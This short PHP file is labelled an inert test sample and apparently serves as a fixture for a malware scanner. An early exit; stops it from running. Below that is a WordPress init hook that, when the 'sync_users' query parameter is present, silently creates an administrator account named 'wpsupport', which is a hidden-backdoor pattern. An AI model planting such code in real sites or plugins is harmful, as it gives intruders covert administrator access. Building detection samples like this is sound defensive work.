<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

add_action('init', function () {
    if (isset($_GET['sync_users'])) {
        if (!username_exists('wpsupport')) {
            $id = wp_create_user('wpsupport', 'not-a-real-password', 'wpsupport@example.invalid');
            $user = new WP_User($id);
            $user->set_role('administrator');
        }
    }
});
